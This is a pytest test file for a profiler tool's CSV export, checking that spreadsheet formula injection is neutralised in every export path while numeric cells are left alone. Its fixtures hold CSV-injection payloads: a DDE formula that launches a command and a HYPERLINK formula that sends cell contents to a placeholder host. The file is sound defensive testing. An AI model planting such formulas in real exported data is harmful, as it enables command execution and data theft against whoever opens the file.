"""CSV files are safe to open in a spreadsheet by default (OWASP, CSV injection): a text cell
that starts with `=`, `+`, `-`, `@`, TAB or CR and is not a plain number gets a `'` in front,
in every CSV path (summary --csv, diff --csv, a job's summary --csv, W in the viewers); numbers
stay numbers (a diff's negative deltas); `--csv-raw` and the viewer's raw save write the names
exactly as recorded (read back with the csv module)."""

from __future__ import annotations

import csv
import json
import time
from pathlib import Path

import pytest
from pilot_helpers import settle

from kinetoscope.commands.cli import main
from kinetoscope.present import tables

SIZE = (120, 40)
# Each would be evaluated by a spreadsheet; the last two are plain numbers and must stay as is.
FORMULAS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB=1+1",
    "\rCR=1+1",
]
NUMBERS = ["-2.5", "+3"]
HOSTILE_NAMES = FORMULAS + NUMBERS


def read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[1:]


def column(path: Path, name: str) -> list[str]:
    header, rows = read_csv(path)
    return [r[header.index(name)] for r in rows]


def hostile_document(scale: float = 1.0) -> dict:
    """A step with an operator and a kernel per hostile name (kernel durations times `scale`)."""
    events: list[dict] = [
        {"ph": "X", "cat": "user_annotation", "name": "ProfilerStep#1", "pid": 1, "tid": 1,
         "ts": 0, "dur": 100_000},
    ]  # fmt: skip
    for n, name in enumerate(HOSTILE_NAMES):
        start = 10 + 1000 * n
        events.append(
            {"ph": "X", "cat": "cpu_op", "name": name, "pid": 1, "tid": 1, "ts": start,
             "dur": 500}
        )  # fmt: skip
        events.append(
            {"ph": "X", "cat": "cuda_runtime", "name": "cudaLaunchKernel", "pid": 1, "tid": 1,
             "ts": start + 10, "dur": 5, "args": {"correlation": n + 1}}
        )  # fmt: skip
        events.append(
            {"ph": "X", "cat": "kernel", "name": name, "pid": 0, "tid": 7,
             "ts": start + 20, "dur": 100 * scale,
             "args": {"device": 0, "stream": 7, "correlation": n + 1}}
        )  # fmt: skip
    return {"schemaVersion": 1, "traceEvents": events}


def write_trace(folder: Path, name: str, scale: float = 1.0) -> Path:
    path = folder / name
    path.write_text(json.dumps(hostile_document(scale)))
    return path


def expected_safe(name: str) -> str:
    return "'" + name if name in FORMULAS else name


def test_safe_cell():
    for formula in FORMULAS:
        assert tables.safe_cell(formula) == "'" + formula
    for number in ["-2.5", "+3", "-1e-05", "1.5E+10", "-.5", "3.", "0", "-12.345"]:
        assert tables.safe_cell(number) == number
    for text in ["aten::mm", "", "'=already", "a=b", " =1", "-", "+", "-inf", "--x", "-1-2"]:
        expected = "'" + text if text[:1] in "=+-@" and text else text
        assert tables.safe_cell(text) == expected, text


def test_summary_csv_neutralises_and_csv_raw_round_trips(tmp_path):
    trace = write_trace(tmp_path, "hostile.json")
    safe, raw = tmp_path / "safe", tmp_path / "raw"
    assert main(["summary", str(trace), "--csv", str(safe)]) == 0
    assert main(["summary", str(trace), "--csv", str(raw), "--csv-raw"]) == 0
    for table in ("operators", "kernels"):
        safe_names = column(safe / f"hostile.{table}.csv", "name")
        raw_names = column(raw / f"hostile.{table}.csv", "name")
        for name in HOSTILE_NAMES:
            assert expected_safe(name) in safe_names, (table, name)
            assert name in raw_names, (table, name)
        live = [n for n in safe_names if n not in NUMBERS and n.startswith(("=", "+", "-", "@"))]
        assert not live and not any(n.startswith(("\t", "\r")) for n in safe_names), table
        assert not any(n.startswith("'") for n in raw_names), table
        # the numbers are the same in both files
        assert column(safe / f"hostile.{table}.csv", "count") == column(
            raw / f"hostile.{table}.csv", "count"
        )
    launched = column(safe / "hostile.kernels.csv", "launched_by")
    assert "'=cmd|' /C calc'!A0" in launched  # the launching operator's name too


def test_diff_csv_keeps_negative_deltas_as_numbers(tmp_path):
    base = write_trace(tmp_path, "base.json")
    new = write_trace(tmp_path, "new.json", scale=0.5)  # every kernel faster: negative deltas
    safe, raw = tmp_path / "safe", tmp_path / "raw"
    assert main(["diff", str(base), str(new), "--csv", str(safe)]) == 0
    assert main(["diff", str(base), str(new), "--csv", str(raw), "--csv-raw"]) == 0
    stem = tables.diff_source(str(base), str(new))
    safe_file, raw_file = safe / f"{stem}.diff-kernels.csv", raw / f"{stem}.diff-kernels.csv"
    header, rows = read_csv(safe_file)
    by_name = {r[header.index("name")]: dict(zip(header, r)) for r in rows}
    for name in HOSTILE_NAMES:
        row = by_name[expected_safe(name)]
        assert row["delta_us"] == "-50.000", name  # 100 µs -> 50 µs: a number, no quote
        assert float(row["delta_pct"]) == -50.0, name
    _, raw_rows = read_csv(raw_file)
    assert {r[header.index("name")] for r in raw_rows} >= set(HOSTILE_NAMES)
    assert column(safe_file, "delta_us") == column(raw_file, "delta_us")


def test_job_summary_csv_neutralises(tmp_path):
    from test_job import rank_trace

    folder = tmp_path / "job"
    folder.mkdir()
    group = '=HYPERLINK("http://x.invalid")'
    for rank in (0, 1, 2):
        document = rank_trace(rank)
        for event in document["traceEvents"]:
            if "Process Group Name" in event.get("args", {}):
                event["args"]["Process Group Name"] = group
        (folder / f"rank{rank}.json").write_text(json.dumps(document))
    safe, raw = tmp_path / "safe", tmp_path / "raw"
    assert main(["summary", str(folder), "--csv", str(safe), "--workers", "1"]) == 0
    assert main(["summary", str(folder), "--csv", str(raw), "--csv-raw", "--workers", "1"]) == 0
    groups = column(safe / "job.collectives.csv", "group")
    assert groups and set(groups) == {"'" + group}
    assert set(column(raw / "job.collectives.csv", "group")) == {group}
    assert column(safe / "job.collectives.csv", "start_skew_us") == column(
        raw / "job.collectives.csv", "start_skew_us"
    )


def test_csv_raw_needs_csv(tmp_path, capsys):
    trace = write_trace(tmp_path, "t.json")
    assert main(["summary", str(trace), "--csv-raw"]) == 2
    assert "--csv-raw goes with --csv" in capsys.readouterr().err
    assert main(["diff", str(trace), str(trace), "--csv-raw", "--json"]) == 2
    assert "--csv-raw goes with --csv" in capsys.readouterr().err


async def saved(pilot, folder: Path, action: str, timeout: float = 20.0) -> Path:
    """Run the screen's `action` (W's save_csv, or the palette's save_csv_raw); the new file."""
    before = set(folder.glob("*.csv"))
    await pilot.app.run_action(action, pilot.app.screen)
    deadline = time.monotonic() + timeout
    while True:
        await pilot.app.workers.wait_for_complete()
        await pilot.pause()
        new = set(folder.glob("*.csv")) - before
        if new:
            break
        assert time.monotonic() < deadline, f"{action} wrote no file"
        await pilot.pause(0.05)
    (path,) = new
    return path


async def test_viewer_w_neutralises_and_the_palettes_raw_save_does_not(tmp_path, monkeypatch):
    from kinetoscope.tui.palette import ScreenActions
    from kinetoscope.tui.trace.app import KinetoscopeApp
    from kinetoscope.tui.trace.operators import OperatorsScreen
    from kinetoscope.tui.trace.screens import TraceScreen

    trace = write_trace(tmp_path, "hostile.json")
    out = tmp_path / "out"
    assert main(["summary", str(trace), "--csv", str(out)]) == 0
    raw_out = tmp_path / "raw"
    assert main(["summary", str(trace), "--csv", str(raw_out), "--csv-raw"]) == 0
    viewer = tmp_path / "viewer"
    viewer.mkdir()
    monkeypatch.chdir(viewer)
    app = KinetoscopeApp(str(trace))
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot, TraceScreen)
        await pilot.press("o")
        screen = await settle(pilot, OperatorsScreen)
        path = await saved(pilot, viewer, "save_csv")
        assert path.read_bytes() == (out / "hostile.operators.csv").read_bytes()
        raw = await saved(pilot, viewer, "save_csv_raw")
        assert raw.read_bytes() == (raw_out / "hostile.operators.csv").read_bytes()
        assert set(column(raw, "name")) >= set(HOSTILE_NAMES)
        said = [str(n.message) for n in app._notifications]
        assert any(str(raw) in m and "(raw: names exactly as recorded)" in m for m in said), said
        # the raw save is a command of the palette
        provider = ScreenActions(screen)
        actions = [action for _, action, _ in provider._commands()]
        assert "save_csv_raw" in actions, " ".join(actions)


async def test_diff_viewer_w_neutralises(tmp_path, monkeypatch):
    from kinetoscope.tui.diff.diff_app import DiffApp
    from kinetoscope.tui.diff.diff_table import DiffScreen

    base = write_trace(tmp_path, "base.json")
    new = write_trace(tmp_path, "new.json", scale=0.5)
    viewer = tmp_path / "viewer"
    viewer.mkdir()
    monkeypatch.chdir(viewer)
    app = DiffApp(str(base), str(new))
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot, DiffScreen, timeout=60)
        path = await saved(pilot, viewer, "save_csv")
        names = column(path, "name")
        assert {expected_safe(n) for n in HOSTILE_NAMES} <= set(names)
        assert all(d.startswith("-") for d in column(path, "delta_us"))
        raw = await saved(pilot, viewer, "save_csv_raw")
        assert set(HOSTILE_NAMES) <= set(column(raw, "name"))


@pytest.mark.parametrize("raw", [False, True])
def test_write_csv_only_touches_text_cells(raw):
    import io

    table = tables.Table(
        "t",
        [
            tables.Field("name", tables.TEXT, lambda r: ["=1+1", "-3"][r]),
            tables.Field("delta_us", tables.US, lambda r: [-1500, 2][r]),
            tables.Field("share", tables.FLOAT, lambda r: [-0.25, 1e-7][r]),
            tables.Field("count", tables.INT, lambda r: [-4, 5][r]),
        ],
        2,
        __import__("numpy").arange(2),
    )
    handle = io.StringIO(newline="")
    tables.write_csv(table, handle, raw=raw)
    rows = list(csv.reader(io.StringIO(handle.getvalue(), newline="")))
    first = "=1+1" if raw else "'=1+1"
    assert rows[1:] == [[first, "-1.500", "-0.25", "-4"], ["-3", "0.002", "1e-07", "5"]]
